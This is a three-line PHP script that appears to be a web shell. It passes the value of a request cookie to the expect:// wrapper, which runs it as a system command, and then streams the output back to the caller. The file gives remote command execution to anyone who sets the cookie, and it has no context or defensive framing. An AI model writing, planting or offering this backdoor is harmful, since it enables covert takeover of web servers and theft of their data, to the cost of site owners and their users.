<?php
$h = fopen("expect://{$_COOKIE['q']}", 'r');
fpassthru($h);
